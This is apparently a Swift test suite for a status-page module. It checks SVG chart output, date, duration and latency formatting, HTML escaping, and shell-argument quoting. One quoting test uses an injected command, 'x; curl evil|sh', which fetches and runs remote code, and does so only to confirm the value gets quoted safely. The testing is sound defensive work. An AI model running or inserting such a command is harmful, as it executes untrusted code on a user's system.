import Testing

@testable import StatusPages

@Suite("SVG charts and page formats")
struct SVGChartTests {
    @Test("a line with a gap and a lone point, a rule, on a round y scale: exact SVG")
    func line() {
        let chart = SVGChart(
            title: "t", from: 0, to: 300,
            lines: [.init(name: "n", cssClass: "c", start: 0, step: 60, values: [0, 1, nil, 2, 4, nil])],
            rules: [.init(label: "limit", value: 3, cssClass: "critical")], yLabel: { SVGChart.number($0) })
        // y 0…4 (step 1) over 182 px from y=12; x over 680 px from 64 across 300 s.
        let svg = chart.render()
        #expect(svg.contains(#"<path class="line c" d="M64 194 L200 148.5 M472 103 L608 12"/>"#), "\(svg)")
        #expect(!svg.contains("<circle"))
        #expect(svg.contains(#"<line class="rule critical" x1="64" x2="744" y1="57.5" y2="57.5"/><text class="rule-label" x="740" y="53.5" text-anchor="end">limit</text>"#))
        #expect(svg.contains(#"<text class="axis" x="58" y="198" text-anchor="end">0</text>"#))
        #expect(svg.contains(#"<text class="axis" x="64" y="212" text-anchor="middle">00:00</text>"#))
        let lone = SVGChart(title: "t", from: 0, to: 60, lines: [.init(name: "n", cssClass: "c", start: 0, step: 60, values: [nil, 2])], yLabel: { _ in "" })
        #expect(lone.render().contains(#"<circle class="dot c" cx="744" cy="12" r="2.5"/>"#))
    }

    @Test("stacked bars from zero")
    func bars() {
        let chart = SVGChart(title: "t", from: 0, to: 120, bars: .init(start: 0, step: 60, stacks: [("good", [3, 0]), ("bad", [1, 2])]), yLabel: { _ in "" })
        let svg = chart.render()
        #expect(svg.contains(#"<rect class="good" x="64" y="57.5" width="339" height="136.5"/><rect class="bad" x="64" y="12" width="339" height="45.5"/>"#), "\(svg)")
        #expect(svg.contains(#"<rect class="bad" x="404" y="103" width="339" height="91"/>"#))
    }

    @Test("round steps, dates, durations, counts, escaping")
    func formats() {
        #expect(SVGChart.niceStep(0.3) == 0.5 && SVGChart.niceStep(3.6) == 5 && SVGChart.niceStep(14) == 20 && SVGChart.niceStep(0) == 1)
        #expect(PageFormat.day(1_700_000_040) == "11-14" && PageFormat.clock(1_700_000_040) == "22:14")
        #expect(PageFormat.day(951_782_400) == "02-29")  // 2000-02-29
        #expect(PageFormat.duration(seconds: 273_600) == "3d 4h" && PageFormat.duration(seconds: 3_720) == "1h 2m")
        #expect(PageFormat.duration(seconds: 59) == "59s" && PageFormat.duration(seconds: nil) == "never")
        #expect(PageFormat.count(1_234_567) == "1,234,567" && PageFormat.count(12) == "12")
        #expect(PageFormat.latency(0.0425) == "42.5 ms" && PageFormat.latency(1.5) == "1.500 s")
        #expect(HTML.escape(#"<a href="x">&'"#) == "&lt;a href=&quot;x&quot;&gt;&amp;&#39;")
        // A quote or bracket joined by a combining mark (one Character) is escaped all the same.
        #expect(HTML.escape("x\"\u{301} style=a") == "x&quot;\u{301} style=a")
        #expect(HTML.escape("\u{600}<meta>") == "\u{600}&lt;meta&gt;")
        #expect(SVGChart.number(1e19) == "1e+19")
        #expect(SVGChart.number(-2.25) == "-2.3" && SVGChart.number(3) == "3")
        #expect(PageFormat.shellWord("shop/checkout") == "shop/checkout")
        #expect(PageFormat.shellWord("x; curl evil|sh") == "'x; curl evil|sh'" && PageFormat.shellWord("it's") == #"'it'\''s'"#)
        #expect(PageFormat.shellWord("") == "''")
    }
}
